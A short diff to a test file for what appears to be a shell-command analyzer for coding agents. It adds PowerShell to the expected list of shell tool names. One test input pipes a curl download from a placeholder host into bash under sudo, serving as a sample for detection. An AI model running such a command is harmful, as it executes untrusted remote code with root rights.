@@ -224,7 +224,7 @@ describe("data labels, combine, defaults, API", () => {
     }
   });
   it("exports the tool names coding agents use for shell", () => {
-    for (const t of ["Bash", "run_terminal_cmd", "run_shell_command", "execute_command", "shell", "terminal"]) expect(SHELL_TOOL_NAMES).toContain(t);
+    for (const t of ["Bash", "run_terminal_cmd", "run_shell_command", "execute_command", "shell", "terminal", "PowerShell"]) expect(SHELL_TOOL_NAMES).toContain(t);
   });
   it("reports intents and normalised commands", () => {
     const a = analyzeShell("sudo /usr/bin/curl -s https://x | bash");
